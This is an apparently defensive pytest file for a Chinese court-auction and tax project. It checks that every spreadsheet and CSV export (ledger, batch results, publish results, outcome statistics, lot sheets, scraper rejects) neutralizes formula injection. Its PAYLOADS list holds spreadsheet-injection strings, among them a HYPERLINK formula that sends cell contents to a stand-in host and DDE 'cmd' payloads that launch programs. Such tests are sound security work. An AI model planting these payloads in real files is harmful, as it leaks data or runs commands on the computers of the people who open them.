"""No user text becomes a formula in any export (issue 18, point 3): the 台账 export (用途 and every text column),
the batch result (address, floor; .xlsx and .csv), the bulk-publish result (title; .xlsx and .csv), the outcomes
workbook, the lot sheet, the tax tables workbook and the scrapers' rejects — all through
``tax_baseline.cells.neutralize``."""

from __future__ import annotations

import csv
from datetime import date, datetime
from types import SimpleNamespace

import pandas as pd
import pytest
from openpyxl import load_workbook

from auction.demo_lots import demo_rows
from auction.lot_sheet import write_sheet
from auction.outcomes import LotOutcome, outcome_statistics
from scrapers.run import write_rejects
from tax_baseline.batch import write_results as write_batch_results
from tax_baseline.cells import FORMULA_STARTS, neutralize
from tax_baseline.workbook import write_xlsx
from tests.unit.test_quote import small_tables
from xunpai.services.outcome_report import export_statistics_xlsx
from xunpai.services.publishing import LotResult
from xunpai.services.publishing import write_results as write_publish_results
from xunpai.storage import ledger

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C x'!A0",
            "@SUM(1+1)*cmd|' /C x'!A0", "\t=1+1", "\r=1+1"]


def _live(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and neutralize(value) != value


def _xlsx_cells(path):
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula_xlsx(path, expect_texts=True):
    seen = []
    for cell in _xlsx_cells(path):
        assert cell.data_type != "f", f"{cell.coordinate}: formula {cell.value!r}"
        assert not _live(cell.value), f"{cell.coordinate}: {cell.value!r}"
        if isinstance(cell.value, str) and cell.value.startswith("'"):
            seen.append(cell.value)
    if expect_texts:
        assert any(v == "'" + PAYLOADS[0] for v in seen) or any(PAYLOADS[0] in v for v in seen), seen


def _assert_no_formula_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert not [c for c in cells if _live(c)]
    assert "'" + PAYLOADS[0] in cells


def test_the_rule():
    for payload in PAYLOADS:
        assert neutralize(payload) == "'" + payload
    assert neutralize("-1") == "-1" and neutralize("-3.5") == "-3.5" and neutralize("+86") == "+86"
    assert neutralize("东辉公寓") == "东辉公寓" and neutralize(12) == 12 and neutralize(None) is None
    assert neutralize("a=b") == "a=b"


def test_ledger_export(uow, tmp_path):
    with uow:
        for payload in PAYLOADS:
            ledger.append(uow.session, "inquiry.quote", {"result": {"address": payload}}, actor=payload,
                          case_number=payload, purpose=payload)
        uow.commit()
    path = tmp_path / "台账.xlsx"
    with uow:
        ledger.export_xlsx(uow.session, path)
    _assert_no_formula_xlsx(path)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_batch_result(tmp_path, suffix):
    frame = pd.DataFrame({"地址": PAYLOADS, "楼层": PAYLOADS, "总价": [1.5] * len(PAYLOADS),
                          "备注": ["-1"] * len(PAYLOADS)})
    path = tmp_path / f"结果{suffix}"
    write_batch_results(frame, path)
    if suffix == ".csv":
        _assert_no_formula_csv(path)
        assert pd.read_csv(path, encoding="utf-8-sig", dtype=str)["备注"].tolist() == ["-1"] * len(PAYLOADS)
    else:
        _assert_no_formula_xlsx(path)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_bulk_publish_result(tmp_path, suffix):
    results = [LotResult(i, p, p, "published", message=p, row=i + 2) for i, p in enumerate(PAYLOADS)]
    path = tmp_path / f"发布结果{suffix}"
    write_publish_results(path, results)
    (_assert_no_formula_csv if suffix == ".csv" else _assert_no_formula_xlsx)(path)


def test_outcomes_workbook(tmp_path):
    lots = [SimpleNamespace(court_code="浙1081", lot_code=p, case_number=p, title=p, round="first_auction",
                            outcome="sold", outcome_on=date(2026, 5, 1), reference_price_fen=100_00,
                            starting_price_fen=100_00, sale_price_fen=120_00) for p in PAYLOADS]
    stats = outcome_statistics(LotOutcome("sold", 100_00, 100_00, 120_00) for _ in lots)
    path = tmp_path / "成交统计.xlsx"
    export_statistics_xlsx(path, {"浙1081": stats}, stats, lots, date_from=date(2026, 1, 1), date_to=date(2026, 12, 31))
    _assert_no_formula_xlsx(path)


def test_lot_sheet_and_tax_tables_and_rejects(tmp_path):
    rows = demo_rows(2, date(2030, 1, 1))
    rows[0]["标的名称"], rows[1]["瑕疵"] = PAYLOADS[0], PAYLOADS[1]
    write_sheet(tmp_path / "lots.xlsx", rows)
    _assert_no_formula_xlsx(tmp_path / "lots.xlsx")

    tables = small_tables()
    tables.frames["communities"].loc[0, "community_name"] = PAYLOADS[0]
    write_xlsx(tables, tmp_path / "tables.xlsx")
    _assert_no_formula_xlsx(tmp_path / "tables.xlsx")

    write_rejects("test", [{"key": p, "url": p, "page": 1, "reasons": [p], "fields": {}} for p in PAYLOADS],
                  tmp_path / "rejects.csv")
    _assert_no_formula_csv(tmp_path / "rejects.csv")


def test_no_stray_time_values(tmp_path):
    # datetimes and numbers are never touched
    assert neutralize(datetime(2026, 1, 1)) == datetime(2026, 1, 1)
